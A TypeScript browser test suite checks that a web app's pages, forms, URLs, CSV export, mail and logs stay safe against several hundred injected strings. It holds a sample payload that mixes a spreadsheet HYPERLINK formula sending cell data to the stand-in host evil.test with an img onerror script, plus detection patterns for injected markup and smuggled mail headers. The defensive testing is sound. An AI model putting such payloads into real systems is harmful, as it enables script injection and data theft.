import { createTransport } from 'nodemailer';
import { chromium } from 'playwright-core';
import type { Browser } from 'playwright-core';
import { Config } from '#libs/config/config.js';
import { Mail } from '#libs/database/entities/mail.entity.js';
import { messageOf } from '#libs/mail/envelope.js';
import { SECTIONS } from '../../apps/api/src/requests/sections.js';
import { chromiumArgs, describeInBrowser } from '../support/chromium.js';
import type { HttpCase } from '../support/http-case.js';
import { injectedLife, textsOf } from '../support/injected-life.js';
import { INJECTIONS } from '../support/injections.js';
import { TestSystem } from '../support/system.js';
import { signIn } from '../pages/browser.js';

/** Those with which a passkey is asked for. */
const OUR_SCRIPT = /<script src="\/assets\/[^"]+" nonce="[^"]+" defer><\/script>/g;

jest.setTimeout(600_000);

const EACH = 70;
const CHUNKS = Array.from({ length: Math.ceil(INJECTIONS.length / EACH) }, (_, at) =>
  INJECTIONS.slice(at * EACH, (at + 1) * EACH),
);
/** Put into the name of a coordinator: it is in the navigation, in tables, in mail and in CSV. */
const NAME = `=HYPERLINK("https://evil.test/?"&A1,"x")<img src=x onerror=window.__pwned=1>{{ 7*7 }}`;

describeInBrowser('what somebody may type into any field', (executablePath) => {
  let system: TestSystem;
  let browser: Browser;
  const cases: { at: HttpCase; chunk: readonly string[] }[] = [];
  let written = '';
  const spies: jest.SpyInstance[] = [];
  beforeAll(async () => {
    for (const stream of [process.stdout, process.stderr])
      spies.push(
        jest.spyOn(stream, 'write').mockImplementation((text: unknown) => {
          written += String(text);
          return true;
        }),
      );
    system = await TestSystem.start();
    await system.dataSource.query(`UPDATE person SET name = $1 WHERE email = 'coordinator@demo.action48.test'`, [NAME]);
    browser = await chromium.launch({ executablePath, args: chromiumArgs });
    for (const chunk of CHUNKS) cases.push({ at: await injectedLife(system, chunk), chunk });
  });
  afterAll(async () => {
    for (const spy of spies) spy.mockRestore();
    await browser?.close();
    await system?.stop();
  });

  /** Somebody at a browser that runs scripts and whose policy against them is off: what protects is the page itself. */
  async function exposed(who: string) {
    const context = await browser.newContext({ baseURL: system.url, bypassCSP: true, javaScriptEnabled: true });
    const page = await context.newPage();
    const alarms: string[] = [];
    page.on('dialog', (dialog) => {
      alarms.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('request', (request) => {
      if (!request.url().startsWith(system.url) && !request.url().startsWith('data:')) alarms.push(request.url());
    });
    if (who) {
      await signIn(page, `${who}@demo.action48.test`, 'action48-demo');
      await page.waitForURL((url) => url.pathname !== '/sign-in');
    }
    return { page, alarms };
  }

  /** What of a page could run or lead elsewhere. */
  const STRANGE = `(() => {
    const strange = [];
    if (window.__pwned) strange.push('a script has run');
    for (const element of document.querySelectorAll('*')) {
      if (element.matches('script[nonce][src^="/assets/scripts/"]')) continue;
      if (/^(script|style|base|object|embed|math|marquee|video|audio|template|xss|img)$/i.test(element.localName)) strange.push(element.outerHTML);
      for (const { name, value } of element.attributes)
        if (/^on|^style$|^srcdoc$/i.test(name) || (/^(href|src|action|formaction)$/.test(name) && /^\\s*(javascript|data:text|https?:\\/\\/evil)/i.test(value)))
          strange.push(element.outerHTML.slice(0, 200));
    }
    return strange;
  })()`;

  const look = async ({ page, alarms }: Awaited<ReturnType<typeof exposed>>, path: string) => {
    const answer = await page.goto(path, { waitUntil: 'load' });
    expect({ path, broken: (answer?.status() ?? 500) >= 500 }).toEqual({ path, broken: false });
    expect({ path, strange: await page.evaluate(STRANGE), alarms }).toEqual({ path, strange: [], alarms: [] });
  };

  it('is more than three hundred texts', () => {
    expect(INJECTIONS.length).toBeGreaterThan(300);
    expect(CHUNKS.flat()).toEqual(INJECTIONS);
  });

  it.each(['bravia', 'coordinator', 'lead', 'legalaid', 'helvia'])('runs on no page of a case for %s', async (who) => {
    const visitor = await exposed(who);
    for (const { at, chunk } of cases) {
      await look(visitor, `/cases/${at.reference}`);
      const shown = await visitor.page.locator('main').innerText();
      if (who !== 'helvia') expect(shown).toContain((chunk[0] ?? '').split(/\s/)[0]);
    }
    for (const path of ['/', '/queue', '/requests', '/invitations', '/forecast', '/system']) await look(visitor, path);
    await visitor.page.context().close();
  });

  it('runs on no form that is filled in again, saved as a draft, or refused', async () => {
    const visitor = await exposed('bravia');
    await visitor.page.goto('/requests/new');
    const draft = new URL(visitor.page.url()).pathname;
    const cookie = (await visitor.page.context().cookies()).map(({ name, value }) => `${name}=${value}`).join('; ');
    const csrf = (await visitor.page.locator('.app-nav input[name=_csrf]').getAttribute('value')) ?? '';
    const post = (path: string, fields: [string, string][]) =>
      fetch(system.url + path, {
        method: 'POST',
        headers: { cookie },
        redirect: 'manual',
        body: new URLSearchParams([['_csrf', csrf], ...fields]),
      });
    for (const chunk of CHUNKS) {
      const { one, all } = textsOf(chunk);
      for (const section of SECTIONS) {
        const texts = section.fields.map(({ name, kind }): [string, string] => [name, kind === 'text' ? one() : all()]);
        const path = `${draft}/${section.id}`;
        expect((await post(path, texts)).status).toBeLessThan(500);
        await look(visitor, path);
      }
      await look(visitor, `${draft}/check`);
    }
    await visitor.page.context().close();
  });

  it('runs on no page that repeats its own address', async () => {
    const visitor = await exposed('coordinator');
    const { reference } = (cases[0] as { at: HttpCase }).at;
    for (const [index, text] of INJECTIONS.entries()) {
      const given = encodeURIComponent(text);
      const paths = [
        `/queue?q=${given}`,
        `/cases/${reference}?done=${given}`,
        `/sign-in?next=${given}`,
        `/dev/mail?to=${given}`,
        `/forecast?hours=${given}`,
        `/calendars/${given}`,
      ];
      // A page of the browser costs most: every third text has one, and every text an answer.
      if (index % 3 === 0) await look(visitor, paths[(index / 3) % paths.length] as string);
      const path = paths[index % paths.length] as string;
      const answer = await fetch(system.url + path, { redirect: 'manual' });
      const raw = /<(img|svg|script|marquee|details|iframe|body|video|audio|object)[^<>]*__pwned|<script/i.test(
        (await answer.text()).replace(OUR_SCRIPT, ''),
      );
      expect({ path, raw, broken: answer.status >= 500 }).toEqual({ path, raw: false, broken: false });
    }
    await visitor.page.context().close();
  });

  it('is nothing to the database but text: no search finds more for it, and no answer is a fault', async () => {
    const all = (await system.call('coordinator', 'GET', '/api/v1/cases')).body.items.length;
    for (const text of INJECTIONS) {
      const { status, body } = await system.call('legalaid', 'GET', `/api/v1/cases?q=${encodeURIComponent(text)}`);
      expect({ text, status: [200, 400, 422].includes(status) }).toEqual({ text, status: true });
      if (status === 200) expect(body.items.length).toBeLessThanOrEqual(all);
      const signIn = await system.call('', 'POST', '/api/v1/sessions', { email: text, password: text });
      expect({ text, status: [401, 422, 429].includes(signIn.status) }).toEqual({ text, status: true });
    }
    const [{ people }] = await system.dataSource.query('SELECT count(*)::int AS people FROM person');
    expect(people).toBeGreaterThan(5);
  });

  it('begins no formula in a table for a spreadsheet', async () => {
    const form = new URLSearchParams({ email: 'coordinator@demo.action48.test', password: 'action48-demo' });
    const signedIn = await fetch(`${system.url}/sign-in`, { method: 'POST', body: form, redirect: 'manual' });
    const cookie = signedIn.headers.get('set-cookie')?.split(';')[0] ?? '';
    const csv = await (await fetch(`${system.url}/queue/cases.csv`, { headers: { cookie } })).text();
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.test/`);
    expect(csv.replace(/^\uFEFF/, '')).not.toMatch(/(^|,|\n)"?[=+@\t＝＋－＠]/);
  });

  it('is in no mail: not in its headers, not in its text, and its HTML has no element of it', async () => {
    const rows = await system.dataSource.manager.find(Mail);
    expect(rows.length).toBeGreaterThan(50);
    const transport = createTransport({ streamTransport: true, buffer: true });
    const { mailFrom, secretsKey } = system.app.get(Config);
    const sender = { mailFrom, secretsKey, publicUrl: system.url };
    for (const row of rows) {
      const message = messageOf(row, sender);
      const source = ((await transport.sendMail(message)).message as Buffer).toString();
      const [head = ''] = source.split('\r\n\r\n');
      expect(head).not.toMatch(/^(bcc|cc|x-evil|set-cookie):/im);
      expect(head.match(/^to:/gim)).toHaveLength(1);
      const text = [message.subject, message.text as string, message.html as string].join('\n');
      expect({ kind: row.kind, found: /<(script|img|svg|iframe)|__pwned|evil\.test/i.test(text) }).toEqual({
        kind: row.kind,
        found: false,
      });
    }
  });

  it('is in no log, and nothing of it was a fault', () => {
    expect({
      log: written.match(/ERROR.*|__pwned.*|evil\.test.*|^\[Nest\] 1 LOG all is well.*/gm),
    }).toEqual({ log: null });
  });
});
